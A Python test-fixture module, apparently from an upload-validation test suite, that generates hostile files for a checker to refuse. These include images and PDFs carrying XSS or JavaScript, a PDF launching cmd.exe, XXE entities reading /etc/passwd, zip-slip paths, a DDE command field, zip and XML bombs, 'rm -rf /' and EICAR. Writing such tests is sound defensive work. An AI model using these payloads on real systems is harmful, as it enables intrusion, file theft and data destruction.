"""Files made to deceive, to burst or to act: each must be refused, whatever it is called and said to be."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from random import Random

from tests.trust.honest_files import docx_parts, packed, phone_photo, picture, screenshot, workbook

Make = Callable[[Random], bytes]
WICKED: dict[str, Make] = {}
SCRIPTS = (
    b"<script>alert(1)</script>",
    b"<SCRIPT src=//x></SCRIPT>",
    b"<svg onload=alert(1)>",
    b"<html><body>hi</body>",
)
_PNG = b"\x89PNG\r\n\x1a\n"


def wicked(name: str) -> Callable[[Make], Make]:
    def register(make: Make) -> Make:
        WICKED[name] = make
        return make

    return register


# --- pictures --------------------------------------------------------------------------------------------------------


def chunk(name: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


@wicked("pixel flood, PNG")
def png_flood(rng: Random) -> bytes:
    side = rng.randrange(20_001, 60_000)
    head = struct.pack(">IIBBBBB", side, rng.randrange(9_000, 60_000), 8, rng.choice([0, 2, 6]), 0, 0, 0)
    return _PNG + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(bytes(5000))) + chunk(b"IEND", b"")


@wicked("pixel flood, JPEG")
def jpeg_flood(rng: Random) -> bytes:
    made = bytearray(phone_photo(rng))
    place = min(at for at in (made.find(b"\xff\xc0"), made.find(b"\xff\xc2")) if at > 0)
    struct.pack_into(">HH", made, place + 5, rng.randrange(30_000, 65_500), rng.randrange(30_000, 65_500))
    return bytes(made)


@wicked("pixel flood, WebP")
def webp_flood(rng: Random) -> bytes:
    side = (rng.randrange(1 << 15, 1 << 24) - 1).to_bytes(3, "little")
    out = io.BytesIO()
    picture(rng).save(out, "WEBP")
    inner = b"WEBP" + b"VP8X" + struct.pack("<I", 10) + bytes(4) + side + side + out.getvalue()[12:]
    return b"RIFF" + struct.pack("<I", len(inner)) + inner


@wicked("moving PNG")
def moving_png(rng: Random) -> bytes:
    out = io.BytesIO()
    picture(rng).save(out, "PNG", save_all=True, append_images=[picture(rng), picture(rng)])
    return out.getvalue()


@wicked("moving WebP")
def moving_webp(rng: Random) -> bytes:
    out = io.BytesIO()
    picture(rng).save(out, "WEBP", save_all=True, append_images=[picture(rng), picture(rng)])
    return out.getvalue()


@wicked("picture with an archive behind it")
def jpeg_zip(rng: Random) -> bytes:
    return (
        phone_photo(rng) + rng.randbytes(rng.randrange(50)) + packed({"a.jar": b"x" * 30}, zipfile.ZIP_STORED)
    )


@wicked("picture with a page in its comment")
def jpeg_html(rng: Random) -> bytes:
    made, words = phone_photo(rng), rng.choice(SCRIPTS)
    return made[:2] + b"\xff\xfe" + struct.pack(">H", len(words) + 2) + words + made[2:]


@wicked("picture with a script as its comment")
def jpeg_script(rng: Random) -> bytes:
    made, words = phone_photo(rng), b"*/=alert(document.cookie)/*" + b" " * rng.randrange(9)
    return made[:2] + b"\xff\xfe" + struct.pack(">H", len(words) + 2) + words + made[2:]


@wicked("picture that is a PDF too")
def png_pdf(rng: Random) -> bytes:
    return (
        screenshot(rng)
        + rng.randbytes(rng.randrange(20))
        + b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\n%%EOF"
    )


@wicked("picture with a page in a chunk")
def png_html(rng: Random) -> bytes:
    made = screenshot(rng)
    return made[:33] + chunk(b"tEXt", b"x\x00" + rng.choice(SCRIPTS)) + made[33:]


@wicked("WebP with a page behind it")
def webp_html(rng: Random) -> bytes:
    out = io.BytesIO()
    picture(rng).save(out, "WEBP")
    return out.getvalue() + rng.choice(SCRIPTS)


@wicked("torn picture")
def torn(rng: Random) -> bytes:
    made = rng.choice([phone_photo, screenshot])(rng)
    return made[: rng.randrange(30, len(made) * 2 // 3)]


@wicked("GIF with a script")
def gif_script(rng: Random) -> bytes:
    return b"GIF89a/*" + rng.randbytes(20) + b"*/=1;alert(1)"


@wicked("TIFF")
def tiff(rng: Random) -> bytes:
    out = io.BytesIO()
    picture(rng).save(out, "TIFF")
    return out.getvalue()


@wicked("drawing in SVG")
def svg(rng: Random) -> bytes:
    head = rng.choice([b"", b"<?xml version='1.0'?>\n", b"\xef\xbb\xbf", b"<!-- x -->\n"])
    return head + b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'


@wicked("page called a picture")
def html(rng: Random) -> bytes:
    head = rng.choice([b"", b"\n \t", b"\xef\xbb\xbf", b"Surat\n", b"<!-- \x2d-->"])
    return head + rng.choice(SCRIPTS)


# --- PDF -------------------------------------------------------------------------------------------------------------


def raw_pdf(objects: list[bytes], head: bytes = b"%PDF-1.7\n", tail: bytes = b"") -> bytes:
    out, places = bytearray(head), []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, start)
    return bytes(out) + tail


def acting_pdf(rng: Random, action: bytes, key: bytes = b"/OpenAction") -> bytes:
    catalog, page = b"<</Type/Catalog/Pages 2 0 R%s>>", b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]%s>>"
    on_page = rng.random() < 0.5
    return raw_pdf([
        catalog % (b"" if on_page else key + action),
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        page % (b"/AA<</O" + action + b">>" if on_page else b""),
    ])  # fmt: skip


def disguised(rng: Random, name: bytes) -> bytes:
    return b"/" + b"".join(b"#%02x" % c if rng.random() < 0.5 else bytes([c]) for c in name)


@wicked("PDF with a script")
def pdf_script(rng: Random) -> bytes:
    return acting_pdf(rng, b"<</S/JavaScript/JS(app.alert\\(1\\))>>")


@wicked("PDF with a script in disguise")
def pdf_disguise(rng: Random) -> bytes:
    return acting_pdf(rng, b"<</S " + disguised(rng, b"JavaScript") + disguised(rng, b"JS") + b"(x)>>")


@wicked("PDF with a script in a packed object")
def pdf_packed(rng: Random) -> bytes:
    inner = b"5 0 " + (b"<</S/JavaScript/JS(app.alert\\(1\\))>>")
    body = zlib.compress(inner)
    out = bytearray(b"%PDF-1.5\n")
    places = {}
    for number, text in {
        1: b"<</Type/Catalog/Pages 2 0 R/OpenAction 5 0 R>>",
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/AA<</O 5 0 R>>>>",
        4: b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>\nstream\n%s\nendstream"
        % (len(body), body),
    }.items():
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, text)
    start = len(out)
    rows = b"\x00\x00\x00\x00" + b"".join(b"\x01" + struct.pack(">HB", places[n], 0) for n in (1, 2, 3, 4))
    rows += b"\x02" + struct.pack(">HB", 4, 0) + b"\x01" + struct.pack(">HB", start, 0)
    table = zlib.compress(rows)
    out += (
        b"6 0 obj\n<</Type/XRef/Size 7/W[1 2 1]/Root 1 0 R/Filter/FlateDecode/Length %d>>\n"
        b"stream\n%s\nendstream\nendobj\n"
        % (
            len(table),
            table,
        )
    )
    return bytes(out) + b"startxref\n%d\n%%%%EOF\n" % start


@wicked("PDF that starts a program")
def pdf_launch(rng: Random) -> bytes:
    return acting_pdf(rng, b"<</S/Launch/F(cmd.exe)/Win<</F(cmd.exe)>>>>")


@wicked("PDF that sends itself")
def pdf_sends(rng: Random) -> bytes:
    return acting_pdf(rng, b"<</S/%s/F(http://x.example/)>>" % rng.choice([b"SubmitForm", b"ImportData"]))


@wicked("PDF that opens another file")
def pdf_goes(rng: Random) -> bytes:
    return acting_pdf(rng, b"<</S/%s/F(\\\\\\\\x\\\\a.pdf)/D[0/Fit]>>" % rng.choice([b"GoToR", b"GoToE"]))


@wicked("PDF with a file inside")
def pdf_file(rng: Random) -> bytes:
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(90, 90)
    writer.add_attachment("a.exe", rng.randbytes(90))
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


@wicked("PDF with an archive behind it")
def pdf_zip(rng: Random) -> bytes:
    return raw_pdf([b"<</Type/Catalog>>"], tail=packed({"a.exe": b"MZ" * 40}))


@wicked("PDF with a page before it")
def pdf_html(rng: Random) -> bytes:
    return raw_pdf([b"<</Type/Catalog>>"], head=b"%PDF-1.4\n" + rng.choice(SCRIPTS) + b"\n")


@wicked("locked PDF")
def pdf_locked(rng: Random) -> bytes:
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(90, 90)
    writer.encrypt("rahasia", algorithm=rng.choice(["AES-256", "RC4-128"]))
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


@wicked("PDF whose pages never end")
def pdf_circle(rng: Random) -> bytes:
    return raw_pdf([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 9>>"])


@wicked("torn PDF")
def pdf_torn(rng: Random) -> bytes:
    made = pdf_launch(rng)
    return made[: rng.randrange(20, len(made) - 40)]


# --- Word and Excel --------------------------------------------------------------------------------------------------


def with_part(rng: Random, name: str, body: bytes) -> bytes:
    return packed({**docx_parts(rng), name: body})


def with_words(rng: Random, old: str, new: str, name: str = "word/document.xml") -> bytes:
    parts = docx_parts(rng)
    return packed({**parts, name: parts[name].decode().replace(old, new, 1).encode()})


@wicked("archive that bursts")
def zip_bomb(rng: Random) -> bytes:
    return with_part(rng, "word/fat.xml", b"<a>" + b" " * rng.randrange(6_000_000, 30_000_000) + b"</a>")


@wicked("archive with a hundred thousand entries")
def zip_many(rng: Random) -> bytes:
    count = 65_535
    one = b"PK\x01\x02" + bytes(24) + struct.pack("<H", 1) + bytes(16) + b"a"
    return (
        packed(docx_parts(rng))[:100]
        + one * 3000
        + b"PK\x05\x06"
        + struct.pack("<HHHHIIH", 0, 0, count, count, len(one) * 3000, 100, 0)
    )


@wicked("archive that climbs out of its folder")
def zip_slip(rng: Random) -> bytes:
    return with_part(
        rng, rng.choice(["../../etc/cron.d/x", "/etc/passwd", "word\\..\\..\\x.xml", "C:/x.xml"]), b"<a/>"
    )


def with_entry(rng: Random, info: zipfile.ZipInfo, body: bytes) -> bytes:
    out = io.BytesIO(packed(docx_parts(rng)))
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr(info, body)
    return out.getvalue()


@wicked("archive with a link to a file of ours")
def zip_link(rng: Random) -> bytes:
    info = zipfile.ZipInfo("word/link.xml")
    info.create_system, info.external_attr = 3, 0o120777 << 16
    return with_entry(rng, info, rng.choice([b"/etc/passwd", b"../../../etc/shadow"]))


@wicked("archive in an archive")
def zip_nested(rng: Random) -> bytes:
    name = rng.choice(["word/media/a.jpeg", "word/b.xml", "customXml/item.dat"])
    return with_part(
        rng,
        name,
        rng.choice([workbook(rng), b"\x1f\x8b\x08" + rng.randbytes(99), b"Rar!\x1a\x07" + bytes(9)]),
    )


@wicked("archive whose entries share their bytes")
def zip_overlap(rng: Random) -> bytes:
    made = bytearray(packed(docx_parts(rng)))
    first, listed = made.find(b"PK\x01\x02"), made.rfind(b"PK\x05\x06")
    second = made.find(b"PK\x01\x02", first + 4)
    entry = bytearray(made[first:second])
    name = entry.find(b"[Content_Types].xml")
    entry[name : name + 1] = b"{"
    made[listed:listed] = entry * 3
    end = listed + len(entry) * 3
    count, size = struct.unpack_from("<HHI", made, end + 8)[1:]
    struct.pack_into("<HHI", made, end + 8, count + 3, count + 3, size + len(entry) * 3)
    return bytes(made)


@wicked("archive that lies about its size")
def zip_liar(rng: Random) -> bytes:
    made = bytearray(packed(docx_parts(rng)))
    place = made.find(b"PK\x01\x02")
    struct.pack_into("<I", made, place + 24, rng.randrange(1, 40))
    return bytes(made)


@wicked("archive with a program before it")
def zip_prefixed(rng: Random) -> bytes:
    return b"MZ" + rng.randbytes(60) + packed(docx_parts(rng))


@wicked("archive with something behind it")
def zip_trailed(rng: Random) -> bytes:
    return packed(docx_parts(rng)) + rng.choice(SCRIPTS)


@wicked("archive locked with a password")
def zip_locked(rng: Random) -> bytes:
    made = bytearray(packed(docx_parts(rng)))
    place = -1
    while (place := made.find(b"PK\x01\x02", place + 1)) >= 0:
        made[place + 8] |= 1
    return bytes(made)


BOMB = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;">]>'
XXE = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'


@wicked("document with entities")
def xml_entities(rng: Random) -> bytes:
    return with_words(
        rng, "<w:document", rng.choice([BOMB, XXE, XXE.replace("DOCTYPE", "DOCTYPE\n")]) + "<w:document"
    )


@wicked("document with entities in other letters")
def xml_utf16(rng: Random) -> bytes:
    text = f'<?xml version="1.0" encoding="UTF-16"?>{rng.choice([BOMB, XXE])}<a>&a;</a>'
    return with_part(rng, "word/more.xml", text.encode(rng.choice(["utf-16", "utf-16"])))


@wicked("workbook that reads our files")
def xlsx_xxe(rng: Random) -> bytes:
    with zipfile.ZipFile(io.BytesIO(workbook(rng))) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    name = rng.choice([n for n in parts if n.endswith("sheet1.xml")])
    return packed({**parts, name: XXE.encode() + parts[name]})


@wicked("document nested without end")
def xml_deep(rng: Random) -> bytes:
    depth = rng.randrange(5_000, 60_000)
    return with_part(rng, "word/deep.xml", b"<a>" * depth + b"</a>" * depth)


@wicked("document with macros")
def macros(rng: Random) -> bytes:
    return with_part(
        rng, rng.choice(["word/vbaProject.bin", "word/VBAPROJECT.BIN", "xl/macrosheets/sheet1.xml"]), b"<a/>"
    )


@wicked("document that says it has macros")
def macro_type(rng: Random) -> bytes:
    main = "application/vnd.ms-word.document.macroEnabled.main+xml"
    return with_words(rng, "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", main,
                      "[Content_Types].xml")  # fmt: skip


def with_outside(rng: Random, kind: str) -> bytes:
    target = rng.choice(["http://x.example/a.dotm", "\\\\x\\share\\a.dotm", "file://x/a"])
    kin = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
    row = (
        f'<Relationship Id="r7" Type="{kin}{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    )
    return with_words(rng, "</Relationships>", row, "word/_rels/document.xml.rels")


@wicked("document with a template from elsewhere")
def far_template(rng: Random) -> bytes:
    return with_outside(rng, "attachedTemplate")


@wicked("document that tells when it is opened")
def far_picture(rng: Random) -> bytes:
    return with_outside(rng, rng.choice(["image", "frame", "oleObject", "video"]))


@wicked("document with a command in a field")
def dde(rng: Random) -> bytes:
    field = f'<w:p><w:r><w:instrText>{rng.choice(["DDEAUTO", "DDE"])} c:\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>'
    return with_words(rng, "<w:body>", f"<w:body>{field}")


@wicked("document with a program inside")
def ole(rng: Random) -> bytes:
    return with_part(
        rng, f"word/embeddings/oleObject{rng.randrange(9)}.bin", b"\xd0\xcf\x11\xe0" + rng.randbytes(50)
    )


@wicked("workbook with data from elsewhere")
def connections(rng: Random) -> bytes:
    return with_part(rng, rng.choice(["xl/connections.xml", "xl/externalLinks/externalLink1.xml"]), b"<a/>")


@wicked("archive of nothing we know")
def plain_zip(rng: Random) -> bytes:
    return packed({"isi.txt": b"x" * rng.randrange(1, 99)})


@wicked("torn document")
def zip_torn(rng: Random) -> bytes:
    made = packed(docx_parts(rng))
    return made[: rng.randrange(60, len(made) - 30)]


# --- the rest --------------------------------------------------------------------------------------------------------


@wicked("old Word or Excel")
def old_office(rng: Random) -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + rng.randbytes(900)


@wicked("program")
def program(rng: Random) -> bytes:
    return rng.choice(
        [b"MZ\x90\x00", b"\x7fELF\x02\x01\x01\x00", b"\xca\xfe\xba\xbe", b"\xcf\xfa\xed\xfe"]
    ) + rng.randbytes(500)


@wicked("shell script")
def script(rng: Random) -> bytes:
    return rng.choice([b"#!/bin/sh\nrm -rf /\n", b"@echo off\r\ndel *\r\n", b"\n#! /usr/bin/env python\n"])


@wicked("known sign of malware")
def eicar(rng: Random) -> bytes:
    sign = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-" + b"STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
    return rng.choice([sign, phone_photo(rng) + sign, b"Halo\n" + sign])


@wicked("rich text")
def rtf(rng: Random) -> bytes:
    return b" " * rng.randrange(3) + b"{\\rtf1\\ansi{\\object\\objdata 0105}}"


@wicked("mail with a page inside")
def mhtml(rng: Random) -> bytes:
    return b"MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n" + rng.choice(SCRIPTS)


@wicked("letters with hidden bytes")
def hidden_bytes(rng: Random) -> bytes:
    return b"Surat biasa" + bytes([rng.choice([0, 1, 7, 8, 27, 127])]) + b"lanjut"


@wicked("other archive")
def other_archive(rng: Random) -> bytes:
    return rng.choice(
        [b"\x1f\x8b\x08\x00", b"7z\xbc\xaf\x27\x1c", b"Rar!\x1a\x07\x00", b"BZh9"]
    ) + rng.randbytes(300)


@wicked("film or sound")
def film(rng: Random) -> bytes:
    return rng.choice(
        [b"\x00\x00\x00\x18ftypmp42", b"ID3\x04\x00", b"OggS\x00", b"\x1aE\xdf\xa3"]
    ) + rng.randbytes(400)


@wicked("nothing")
def nothing(rng: Random) -> bytes:
    return b" " * rng.randrange(3)


@wicked("more than may be")
def too_large(rng: Random) -> bytes:
    return phone_photo(rng) + bytes(20 * 1024 * 1024 + rng.randrange(9))
